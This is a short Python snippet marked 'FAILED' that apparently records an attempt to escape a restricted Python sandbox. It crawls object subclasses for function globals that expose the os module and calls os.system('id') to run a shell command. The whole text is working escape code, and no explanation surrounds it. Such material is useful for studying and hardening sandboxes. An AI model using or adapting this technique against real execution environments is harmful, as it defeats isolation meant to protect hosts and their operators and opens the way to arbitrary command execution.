# FAILED
seen = [object]
for cls in seen:
    seen.extend(c for c in type.__subclasses__(cls) if c not in seen)
    for value in vars(cls).values():
        scope = getattr(getattr(value, '__func__', value), '__globals__', {})
        if 'os' in scope:
            scope['os'].system('id')
raise RuntimeError('no way found')
